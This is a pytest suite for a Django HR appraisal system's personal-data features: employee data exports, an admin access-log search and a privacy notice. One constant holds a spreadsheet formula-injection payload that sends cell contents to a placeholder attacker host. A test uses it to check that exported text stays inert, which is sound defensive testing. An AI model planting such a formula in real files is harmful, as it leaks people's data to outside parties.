"""Personal data (UU 27/2022): an employee downloads everything held about them; the admin BKD
searches the log of who opened whose data; the privacy notice."""

from __future__ import annotations

import datetime as dt
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from accounts.privacy.models import AccessKind, PersonalDataAccess
from appraisal.realisation import services as realisation
from appraisal.realisation.models import Evidence
from feedback.threads import services as threads
from reports.privacy import formats
from reports.privacy.dossier import personal_data
from tests.actors import actor
from tests.appraisal.matrix_rows_realisation import _evidence
from tests.factories import UserFactory
from tests.feedback.fixtures_threads import approved_skp, objected, realised

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'


@pytest.fixture
def record(org):
    """The pegawai's year so far: an approved plan, a realisation with evidence, a finalised and
    objected evaluation, a daily log entry and a feedback thread they started."""
    skp = approved_skp(org)
    realised(skp)
    _evidence(org)
    realisation.daily_log_add(
        skp, day=timezone.localdate(), activity="Rapat koordinasi", actor=actor(org.pegawai)
    )
    threads.thread_start(
        skp, "Mohon arahan untuk RHK ini", rhk=skp.rhks.get(), actor=actor(org.pegawai)
    )
    objected(org, skp)
    return skp


def _download(client, fmt):
    return client.get(reverse("privacy:my_data_download", args=[fmt]))


def test_the_employee_downloads_everything_held_about_them_as_json(org, login, record):
    login("admin_opd").get(reverse("org:employee_detail", args=[org.pegawai.nip]))
    response = _download(login("pegawai"), "json")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="data-pribadi-')
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    data = json.loads(response.content)
    assert data["profile"]["nip"] == org.pegawai.nip
    assert data["account"]["username"] == "pegawai"
    assert [post["position"] for post in data["posts"]] == ["Pengelola Data"]
    assert data["plans"][0]["id"] == str(record.public_id)
    assert data["rhk"][0]["text"] == record.rhks.get().text
    assert len(data["iki"]) == 3 and data["iki"][0]["skp"] == str(record.public_id)
    assert [e["original_name"] for e in data["evidence"]] == ["laporan.pdf"]
    assert data["results"][0]["status"] == "finalised"
    assert data["objections"][0]["reasons"] == "Alasan keberatan"
    assert data["daily_log"][0]["activity"] == "Rapat koordinasi"
    assert [m["text"] for m in data["feedback_written"]] == ["Mohon arahan untuk RHK ini"]
    assert any(entry["what"] == "SKP" for entry in data["audit"])
    assert {(a["user"], a["kind"]) for a in data["access_log"]} == {("adminopd", "employee")}
    assert data["about"]["format"] == formats.FORMAT


def test_the_download_holds_where_notifications_reach_them(org, login):
    from notifications.models import ChannelAddress

    ChannelAddress.objects.create(
        user=org.pegawai.user, channel="whatsapp", address="6281234567890",
        verified_at=timezone.now(),
    )  # fmt: skip
    ChannelAddress.objects.create(user=org.ppk.user, channel="telegram", address="555")
    data = json.loads(_download(login("pegawai"), "json").content)
    assert [(c["channel"], c["address"]) for c in data["notification_channels"]] == [
        ("whatsapp", "6281234567890")
    ]


def test_the_download_holds_no_one_elses_data(org, login, record):
    approved_skp(org)  # the chain above: the kasi, kabid and kadis have plans too
    content = _download(login("pegawai"), "json").content.decode()
    for other in (org.colleague, org.outsider, org.admin_opd):
        assert other.nip not in content


def test_each_download_is_recorded_as_the_persons_own(org, login):
    _download(login("pegawai"), "json")
    _download(login("pegawai"), "xlsx")
    recorded = PersonalDataAccess.objects.filter(kind=AccessKind.OWN_DATA)
    assert [(a.user_id, a.subject_id, a.scope) for a in recorded.order_by("pk")] == [
        (org.pegawai.user_id, org.pegawai.pk, "json"),
        (org.pegawai.user_id, org.pegawai.pk, "xlsx"),
    ]


def test_the_workbook_is_readable_and_text_typed_by_people_stays_text(org, login, record):
    record.rhks.update(text=FORMULA)
    response = _download(login("pegawai"), "xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    with translation.override("id"):
        assert workbook.sheetnames[:2] == [translation.gettext("About"), "Profil"]
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    typed = [c for c in cells if c.value == FORMULA]
    assert typed and all(c.data_type == "s" for c in typed)
    profile = workbook.worksheets[1]
    assert org.pegawai.nip in [c.value for row in profile.iter_rows() for c in row]


def test_the_pdf_shows_every_part_in_the_readers_language(org, login, record, english):
    html = formats.pdf_html(personal_data(org.pegawai.user))
    for title in ("Profile", "Posts", "Work plans (SKP)", "Evidence", "Evaluations", "Objections"):
        assert f"<h2>{title}</h2>" in html
    assert "laporan.pdf" in html and "Alasan keberatan" in html
    response = _download(login("pegawai"), "pdf")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")


def test_a_login_without_an_employee_record_gets_its_account(db, client):
    user = UserFactory(username="operator")
    client.force_login(user)
    data = json.loads(_download(client, "json").content)
    assert "profile" not in data and data["account"]["username"] == "operator"
    assert data["about"]["nip"] is None


def test_an_unknown_format_is_not_found(login):
    assert _download(login("pegawai"), "csv").status_code == 404
    assert _download(login("pegawai"), "XLSX").status_code == 404


def test_gathering_costs_the_same_queries_however_long_the_record(
    org, record, django_assert_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as few:
        personal_data(org.pegawai.user)
    for day in range(1, 20):
        realisation.daily_log_add(
            record,
            day=timezone.localdate() - dt.timedelta(days=day % 3),
            activity=f"Kegiatan {day}",
            actor=actor(org.pegawai),
        )
    for number in range(5):
        Evidence.objects.create(skp=record, link=f"https://drive.example.id/{number}")
    with django_assert_num_queries(len(few.captured_queries)):
        personal_data(org.pegawai.user)


def test_my_data_page_offers_the_downloads_and_who_opened_the_data(org, login, english):
    login("admin_bkd").get(reverse("org:employee_detail", args=[org.pegawai.nip]))
    page = login("pegawai").get(reverse("privacy:my_data"))
    assert page.status_code == 200
    text = page.content.decode()
    for fmt in ("xlsx", "pdf", "json"):
        assert reverse("privacy:my_data_download", args=[fmt]) in text
    assert "Admin BKD" in text and "Employee page" in text
    assert reverse("privacy:notice") in text


def test_the_user_menu_leads_to_my_personal_data(login):
    page = login("pegawai").get(reverse("home")).content.decode()
    assert reverse("privacy:my_data") in page


# The access log -------------------------------------------------------------------------------


def _opened(org, count: int, who="admin_opd") -> None:
    for _n in range(count):
        PersonalDataAccess.objects.create(
            user=getattr(org, who).user,
            subject=org.pegawai,
            kind=AccessKind.EMPLOYEE_PAGE,
            path=f"/kelola/pegawai/{org.pegawai.nip}/",
        )


def test_admin_bkd_searches_who_opened_whose_data(org, login, english):
    _opened(org, 2)
    PersonalDataAccess.objects.create(
        user=org.ppk.user, subject=org.colleague, kind=AccessKind.EVIDENCE, path="/kinerja/bukti/x/"
    )
    client = login("admin_bkd")
    url = reverse("privacy:access_log")

    def entries(**query):
        return client.get(url, query).context["page"].object_list

    assert len(entries()) == 3
    assert {a.user_id for a in entries(subject=org.pegawai.nip)} == {org.admin_opd.user_id}
    assert [a.subject_id for a in entries(who="kasi")] == [org.colleague.pk]
    assert [a.subject_id for a in entries(who=org.ppk.nip)] == [org.colleague.pk]
    assert len(entries(kind=AccessKind.EVIDENCE)) == 1
    today = timezone.localdate().isoformat()
    assert len(entries(since=today, until=today)) == 3
    assert list(entries(until=(timezone.localdate() - dt.timedelta(days=1)).isoformat())) == []
    page = client.get(url).content.decode()
    assert "Admin Dinkes" in page and org.pegawai.nip in page and "Evidence file" in page


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"subject": "1980abc"}, "NIP hanya"),
        ({"since": "2026-05-02", "until": "2026-05-01"}, "sebelum"),
        ({"since": "0001-01-01"}, "2000"),
        ({"until": "9999-12-31"}, "2999"),
        ({"since": "2026-02-30"}, "tanggal"),
    ],
)
def test_a_search_that_cannot_be_read_is_explained_in_indonesian(org, login, query, message):
    _opened(org, 1)
    response = login("admin_bkd").get(reverse("privacy:access_log"), query)
    assert response.status_code == 200
    assert list(response.context["page"].object_list) == []
    errors = " ".join(str(e) for e in response.context["filter"].form.errors.values())
    assert message.lower() in errors.lower()


def test_the_access_log_is_paginated_at_a_constant_cost(org, login, django_assert_num_queries):
    client = login("admin_bkd")
    url = reverse("privacy:access_log")
    _opened(org, 3)
    client.get(url)  # the session and the caches of a first request
    with django_assert_num_queries(ACCESS_LOG_QUERIES):
        client.get(url)
    _opened(org, 40, who="ppk")
    with django_assert_num_queries(ACCESS_LOG_QUERIES):
        response = client.get(url)
    assert len(response.context["page"].object_list) == 25
    assert response.context["page"].has_next()


# session, user, roles (employee, admin grants, posts held and overrides for the navbar), the
# unread count, the log's capped count and its page (who and whose in the same query)
ACCESS_LOG_QUERIES = 9


def test_only_the_admin_bkd_reads_the_access_log(login):
    for persona in ("pegawai", "ppk", "admin_opd"):
        assert login(persona).get(reverse("privacy:access_log")).status_code == 403


# The notice ------------------------------------------------------------------------------------


def test_the_notice_is_in_indonesian_by_default_and_english_on_request(db, client, settings):
    settings.RETENTION_PUBLIC_CONTACT_DAYS = 90
    page = client.get(reverse("privacy:notice")).content.decode()
    assert "Pemberitahuan privasi" in page and "UU PDP" in page and "90 hari" in page
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    page = client.get(reverse("privacy:notice")).content.decode()
    assert "Privacy notice" in page and "90 days" in page


def test_the_notice_is_linked_from_the_footer_and_the_public_form(org, login, client):
    from feedback.public.models import PublicChannel

    notice = reverse("privacy:notice")
    assert notice in login("pegawai").get(reverse("home")).content.decode()
    assert notice in client.get(reverse("login")).content.decode()
    channel = PublicChannel.objects.create(unit=org.surv, code="uji123")
    assert notice in client.get(reverse("public:form", args=[channel.code])).content.decode()


def test_a_long_list_shows_its_newest_rows_in_the_pdf(org, record, monkeypatch, english):
    monkeypatch.setattr(formats, "PDF_MAX_ROWS", 2)
    for day in range(1, 4):
        realisation.daily_log_add(
            record,
            day=timezone.localdate() - dt.timedelta(days=day),
            activity=f"Kegiatan {day}",
            actor=actor(org.pegawai),
        )
    html = formats.pdf_html(personal_data(org.pegawai.user))
    assert "The newest 2 of 4 rows" in html
    assert "Rapat koordinasi" in html and "Kegiatan 3" not in html  # the oldest is left out
    workbook = load_workbook(io.BytesIO(formats.xlsx_bytes(personal_data(org.pegawai.user))))
    logged = [c.value for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert "Kegiatan 3" in logged
